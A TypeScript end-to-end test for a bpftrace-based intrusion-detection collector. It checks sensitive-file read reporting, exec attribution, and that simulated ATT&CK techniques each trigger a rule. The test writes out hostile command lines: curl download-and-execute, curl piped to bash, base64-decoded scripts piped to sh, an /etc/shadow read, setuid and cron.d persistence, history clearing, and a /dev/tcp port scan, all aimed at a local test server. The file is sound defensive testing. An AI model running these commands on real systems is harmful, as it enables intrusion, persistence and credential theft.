// Live: what detection needs from the bpftrace source (issue 13), against the real
// kernel: reads of sensitive paths by every route (open, openat, openat2, a path not yet
// in memory at entry, a path relative to a root cwd) and nothing for other reads; the
// first exec of a new container attributed to it; syscall sets that name the process;
// the field report's twelve attack techniques, each raising its own rule in a container
// whose stable baseline knows every binary they use (test/models/techniques.test.ts has
// the same on synthetic events).
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { randomBytes } from 'node:crypto';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { liveEvents } from '../../collector/sources/bpftrace/index.ts';
import { defaults } from '../../collector/sources/bpftrace/config.ts';
import { DEFAULT_SENSITIVE_PATHS } from '../../collector/sources/bpftrace/sensitive.ts';
import { CgroupIdMap } from '../../collector/enrich/cgroupid.ts';
import { ProcessCache } from '../../collector/enrich/procs.ts';
import { createProcfsAttribution } from '../../collector/enrich/attribution.ts';
import { createEnricher } from '../../collector/enrich/index.ts';
import { MemoryStats } from '../../collector/stats.ts';
import { createLogger } from '../../collector/logger.ts';
import type { EventOf, RuntimeEvent } from '../../collector/event.ts';
import { cgroup2Available, createTestContainer, type TestContainer } from '../support/cgroup.ts';
import { REPO, bpftraceInstalled, isRoot, requireComponent, waitFor } from '../support/env.ts';
import { learnThenStable, testEngine } from '../support/events.ts';

describe('e2e: bpftrace source for detection (live kernel)', function () {
  this.timeout(180000);
  let c: TestContainer;
  const others: TestContainer[] = [];
  let ac: AbortController;
  let run: Promise<void>;
  let events: RuntimeEvent[];
  let ready = false;
  let tmp: string;
  let ov: string;
  const ids = new CgroupIdMap({ minRescanMs: 3_600_000 }); // one scan: later cgroups only through their processes
  const procs = new ProcessCache();
  const mineIds = new Set<string>();

  const opens = (): EventOf<'file_open'>[] => events.filter((e) => e.kind === 'file_open' && e.cgroup?.id === c.cgroupId) as EventOf<'file_open'>[];

  before(async function () {
    requireComponent(this, isRoot(), 'root');
    requireComponent(this, cgroup2Available(), 'a cgroup v2 mount');
    requireComponent(this, bpftraceInstalled(), 'bpftrace');
    tmp = mkdtempSync(join(tmpdir(), 'hw-reads-'));
    ov = join(tmp, 'open-variants');
    execFileSync('cc', ['-O2', '-o', ov, join(REPO, 'test/e2e/support/open-variants.c')]);
    for (const d of ['home/alice/.ssh', 'home/alice/.ssh2', 'keys', 'secret-dir/a']) mkdirSync(join(tmp, d), { recursive: true });
    for (const f of ['home/alice/.ssh/id_rsa', 'home/alice/.ssh2/x', 'keys/host_rsa_key', 'keys/host_rsa_key.pub', 'secret-dir/a/b', 'exact', 'exactly', 'plain']) writeFileSync(join(tmp, f), 'x');
    writeFileSync(join(tmp, 'pathfile'), `${tmp}/exact\0`);
    c = createTestContainer();
    mineIds.add(c.cgroupId);
    events = [];
    ac = new AbortController();
    const log = createLogger({ level: 'warn', write: (l) => process.env.HW_DEBUG && console.error(l) });
    const ctx = { node: 'test-node', signal: ac.signal, log, stats: new MemoryStats(), state: { get: () => undefined, set() {} }, now: Date.now };
    const sensitivePaths = [...DEFAULT_SENSITIVE_PATHS, `${tmp}/home/*/.ssh/`, `${tmp}/keys/host_*_key`, `${tmp}/secret-dir/`, `${tmp}/exact`];
    const cfg = { ...defaults, intervalS: 1, sensitivePaths };
    const enricher = createEnricher([createProcfsAttribution({ processes: procs, cgroupIds: ids })]);
    run = (async () => {
      for await (const batch of liveEvents(cfg, ctx, { ids, onReady: () => (ready = true) })) {
        enricher.enrich(batch);
        for (const ev of batch) {
          if (process.env.HW_DEBUG && ev.kind === 'exec') console.error('exec', ev.cgroup, ev.process.args.slice(0, 3));
          if (ev.cgroup?.id !== undefined && mineIds.has(ev.cgroup.id)) events.push(ev);
        }
      }
    })();
    await waitFor(() => ready, { timeoutMs: 120000, what: 'bpftrace ready' });
  });

  after(async () => {
    ac?.abort();
    await run;
    await c?.remove();
    for (const o of others) await o.remove();
    if (tmp) rmSync(tmp, { recursive: true, force: true });
  });

  it('reports reads of listed paths, by every route, and no other read', async () => {
    const script = [
      'cat /etc/shadow /etc/hostname > /dev/null',
      'cat /proc/self/environ > /dev/null',
      `cat ${tmp}/home/alice/.ssh/id_rsa ${tmp}/home/alice/.ssh2/x ${tmp}/keys/host_rsa_key ${tmp}/keys/host_rsa_key.pub > /dev/null`,
      `cat ${tmp}/secret-dir/a/b ${tmp}/exactly ${tmp}/plain > /dev/null`,
      `${ov} open ${tmp}/exact`,
      `${ov} openat2 ${tmp}/secret-dir/a/b`,
      `${ov} mmap ${tmp}/pathfile`,
      'cd / && cat etc/gshadow > /dev/null',
    ].join(' && ');
    const r = await c.run(script);
    assert.equal(r.code, 0, r.stderr);
    const want = ['/etc/shadow', '/proc/self/environ', `${tmp}/home/alice/.ssh/id_rsa`, `${tmp}/keys/host_rsa_key`, `${tmp}/secret-dir/a/b`, '/etc/gshadow'];
    await waitFor(() => want.every((p) => opens().some((e) => e.path === p)) && opens().filter((e) => e.path === `${tmp}/exact`).length >= 2, {
      timeoutMs: 30000,
      what: `reads of ${want.join(', ')} (got ${opens().map((e) => e.path).join(', ')})`,
    });
    const byPath = (p: string) => opens().filter((e) => e.path === p);
    const exact = byPath(`${tmp}/exact`);
    assert.equal(exact.length, 2, 'open(2) and the path that was not in memory at entry');
    assert.ok(exact.every((e) => e.process.exe.endsWith('/open-variants')));
    assert.equal(byPath(`${tmp}/secret-dir/a/b`).length, 2, 'cat (openat) and openat2');
    const shadow = byPath('/etc/shadow')[0];
    assert.deepEqual(shadow.flags?.[0], 'O_RDONLY');
    assert.match(shadow.process.exe, /\/cat$/, 'the reader, from the exec that started it');
    assert.ok((shadow.process.ancestors?.length ?? 0) > 0, 'with its lineage');
    for (const p of ['/etc/hostname', `${tmp}/home/alice/.ssh2/x`, `${tmp}/keys/host_rsa_key.pub`, `${tmp}/exactly`, `${tmp}/plain`]) {
      assert.equal(byPath(p).length, 0, `${p} is not listed`);
    }
  });

  it("attributes a new container's first exec (its start command) to that container", async () => {
    // the id map scanned the tree once (for the first container) and will not again
    // within this test: the new cgroup can only be found through its process
    ids.lookup('1');
    const d = createTestContainer();
    others.push(d);
    mineIds.add(d.cgroupId);
    const p = d.spawn('/bin/sleep', ['3']);
    try {
      const ev = await waitFor(() => events.find((e) => e.kind === 'exec' && e.cgroup?.id === d.cgroupId && e.process.args[0] === '/bin/sleep'), { timeoutMs: 30000, what: 'the start command' });
      // spelled as the kernel resolves it (on Debian /bin is a link to /usr/bin)
      assert.equal(ev.process.exe, realpathSync('/bin/sleep'));
      assert.equal(ev.cgroup?.path, d.path);
      assert.equal(ev.container?.id, d.containerId);
      assert.equal(ev.workload?.id, `host/container/${d.containerId}`);
    } finally {
      p.kill('SIGKILL');
    }
  });

  it('syscall sets name the process that made the calls', async () => {
    const r = await c.run(`python3 -c 'import os, time
for i in range(50): os.sched_yield()
time.sleep(2.5)'`);
    assert.equal(r.code, 0, r.stderr);
    const ev = await waitFor(() => events.find((e) => e.kind === 'syscall' && e.cgroup?.id === c.cgroupId && e.names.includes('sched_yield')) as EventOf<'syscall'> | undefined, {
      timeoutMs: 30000,
      what: 'a syscall set with sched_yield',
    });
    assert.equal(ev.aggregated, true);
    assert.ok(ev.process.pid > 0);
    assert.match(ev.process.exe, /python3/);
    assert.match(ev.process.args[0], /python3$/);
  });

  it("an exec's parent is what it was at the exec: date in a redirection is never executed by gzip", async () => {
    // The CronJob's line: the forked child expands $(date …) for the redirection (date's
    // parent is that child, then still sh), then execs gzip. Attributed after that exec,
    // the child's /proc names gzip; the parent's comm read in the kernel at date's exec
    // says sh (procs.ts parentAtExec).
    const g = createTestContainer();
    others.push(g);
    mineIds.add(g.cgroupId);
    const dir = join(tmp, 'gz');
    mkdirSync(dir);
    writeFileSync(join(dir, 'f'), 'x'.repeat(4096));
    const N = 30;
    // dash execs the last command of -c without forking (date's parent then exec'd from
    // a process the cache knows); with a command after it, dash and bash fork a child
    // that is in no exec record — the race. gzip fed through a pipe that stays open half
    // a second lives long enough to be what /proc shows when date's exec is attributed
    const line = `gzip -c ${dir}/f > ${dir}/out-$(date +%s%N).gz`;
    const slow = `{ sleep 0.5; cat ${dir}/f; } | gzip -c > ${dir}/slow-$(date +%s%N).gz`;
    const script = `for i in $(seq ${N}); do sh -c '${line}'; sh -c '${line}; :'; bash -c '${line}; :'; done; for i in 1 2 3 4 5; do sh -c '${slow}; :'; bash -c '${slow}; :'; done`;
    const r = await g.run(script, { timeoutMs: 90000 });
    assert.equal(r.code, 0, r.stderr);
    const execs = (exe: RegExp) => events.filter((e) => e.kind === 'exec' && e.cgroup?.id === g.cgroupId && exe.test(e.process.exe));
    const runs = 3 * N + 10;
    await waitFor(() => execs(/\/date$/).length >= runs && execs(/\/gzip$/).length >= runs, { timeoutMs: 30000, what: `${runs} date and gzip execs` });
    const show = (e: RuntimeEvent) => ({ pid: e.process.pid, ppid: e.process.ppid, parentComm: e.process.parentComm, args: e.process.args, ancestors: e.process.ancestors?.map((a) => `${a.pid}:${a.exe}`) });
    const byGzip = events.filter((e) => e.kind === 'exec' && e.cgroup?.id === g.cgroupId && e.process.ancestors?.some((a) => a.exe.endsWith('/gzip')));
    assert.deepEqual(byGzip.map(show), [], 'no exec is attributed to gzip as a parent or ancestor');
    // a named parent is the shell: a fork of a shell is that shell. One gone before its
    // child's exec is attributed (gzip of 4 KiB takes a millisecond) is unknown, as before
    const shells = new Set([realpathSync('/bin/sh'), realpathSync('/bin/bash')]);
    const dates = execs(/\/date$/);
    const named = dates.filter((e) => e.process.ancestors?.[0] !== undefined);
    assert.deepEqual(named.filter((e) => !shells.has(e.process.ancestors![0].exe)).map(show), [], "date's parent is the shell");
    // the race happened and was undone: in the piped lines, date named a shell for a
    // parent that was a fork and is now known as the gzip it exec'd (`gzip -c`, no file)
    const undone = named.filter((e) => {
      const now = procs.peek(e.process.ppid!);
      return now?.exe.endsWith('/gzip') && now.args.length === 2;
    });
    assert.ok(undone.length > 0, `no date outlived by its parent's gzip (named ${named.length} of ${dates.length})`);
  });

  it('twelve attack techniques: each raises its own rule, though the stable baseline knows every binary they use', async function () {
    const k = createTestContainer();
    others.push(k);
    mineIds.add(k.cgroupId);
    const T = join(tmp, 'k');
    mkdirSync(T);
    writeFileSync(join(T, 'file'), 'x\n');
    const server: Server = createServer((req, res) => res.end(req.url === '/payload' ? '#!/bin/sh\necho payload\n' : 'echo hi\n'));
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    const cron = `/etc/cron.d/hw-test-${randomBytes(4).toString('hex')}`;
    const e = testEngine();
    let seen = 0;
    let clock = (ev: RuntimeEvent): number => ev.time;
    /** run a script in the container; once its events are in, judge them: the rules of the alerts it raised */
    const step = async (script: string, n: string): Promise<string[]> => {
      const r = await k.run(`${script}; /bin/true hw-step-${n}`);
      assert.equal(r.code, 0, `${n}: ${r.stderr}`);
      await waitFor(() => events.some((ev) => ev.kind === 'exec' && ev.cgroup?.id === k.cgroupId && ev.process.args[1] === `hw-step-${n}`), { timeoutMs: 30000, what: `the events of step ${n}` });
      const mine = events.filter((ev) => ev.cgroup?.id === k.cgroupId);
      const out: string[] = [];
      for (; seen < mine.length; seen++) for (const u of e.process(mine[seen], clock(mine[seen]))) out.push(`${u.alert.rule}: ${u.alert.summary}${/Also matched: [^.]+/.exec(u.alert.description)?.[0] ?? ''}`);
      return out;
    };
    try {
      // learning: the workload's own habits, twice
      const habits = [
        `cat ${T}/file > /dev/null; chmod 644 ${T}/file; cp ${T}/file ${T}/copy; rm -f ${T}/copy; mkdir -p ${T}/d; touch ${T}/t`,
        `curl -s -o ${T}/fetch ${url}/data; sh -c 'date +%s' > /dev/null; bash -c 'exit 0'; base64 ${T}/file > /dev/null; echo eAo= | base64 -d > /dev/null`,
        `uname -m > /dev/null; id -u > /dev/null; groups > /dev/null; uptime > /dev/null; grep -c x ${T}/file > /dev/null; echo > /dev/tcp/127.0.0.1/${url.split(':')[2]}`,
      ];
      for (let i = 0; i < 2; i++) for (const [j, h] of habits.entries()) await step(h, `learn-${i}-${j}`);
      const stableAt = learnThenStable(e, [], Date.now());
      const start = Date.now();
      clock = (ev) => stableAt + Math.max(0, ev.time - start);
      const techniques: [string, string, string][] = [
        ['T1059.004 shell script', 'drift-exec', `echo 'echo Hello' > ${T}/art.sh; chmod +x ${T}/art.sh; sh ${T}/art.sh`],
        ['T1105 download and run', 'drift-exec', `curl -s -o ${T}/payload ${url}/payload && chmod +x ${T}/payload && ${T}/payload`],
        ['T1082 OS discovery', 'discovery-commands', `uname -a >> ${T}/b.txt; cat /etc/issue >> ${T}/b.txt; uptime >> ${T}/b.txt`],
        ['T1087.001 account discovery', 'discovery-commands', `cat /etc/passwd > ${T}/a.txt; grep 'x:0:' /etc/passwd > /dev/null; groups > /dev/null; id > /dev/null`],
        ['T1003.008 /etc/shadow read', 'credential-file-read', 'cat /etc/shadow > /dev/null'],
        ['T1548.001 setuid bit', 'setuid-bit-set', `touch ${T}/evil; chmod u+xs ${T}/evil`],
        ['T1053.003 cron.d', 'write-system-path', `echo '# habitwatch test' > ${cron}; rm -f ${cron}`],
        ['T1070.003 history clearing', 'history-tampering', `cat /dev/null > ${T}/.bash_history; rm -f ${T}/.bash_history`],
        ['T1140 decoded script, run', 'drift-exec', `echo IyEvYmluL3NoCmVjaG8gaGkK | base64 -d > ${T}/dec.sh; chmod +x ${T}/dec.sh; ${T}/dec.sh`],
        ['T1140 decoded script, piped', 'decoded-pipe-to-shell', 'echo ZWNobyBoaQo= | base64 -d | sh'],
        ['T1036.005 masquerading directory', 'masquerading', `mkdir -p ${T}/...; cp /bin/sh ${T}/.../sh; ${T}/.../sh -c 'echo hi'`],
        ['T1059.004 pipe to shell', 'download-pipe-to-shell', `curl -s ${url}/x.sh | bash`],
        // stable: the scan's destinations are new; unexpected-connect's fan-out is its finding
        ['T1046 port scan', 'unexpected-connect', `bash -c 'for ((p=1; p<=40; p++)); do echo > /dev/tcp/127.0.0.1/$p; done 2>/dev/null; true'`],
      ];
      const failed: string[] = [];
      for (const [i, [name, rule, script]] of techniques.entries()) {
        const got = await step(script, `attack-${i}`);
        if (process.env.HW_DEBUG) console.error(name, got);
        const ok = got.some((g) => g.startsWith(`${rule}:`) || (g.includes('Also matched') && g.includes(rule) && !g.startsWith('unexpected-')));
        const newBinary = got.filter((g) => /^unexpected-exec: \S+ executed, never seen/.test(g));
        if (!ok || newBinary.length > 0) failed.push(`${name}: expected ${rule}, got:\n  ${got.join('\n  ') || '(nothing)'}`);
      }
      assert.deepEqual(failed, []);
    } finally {
      server.close();
      rmSync(cron, { force: true });
    }
  });
});
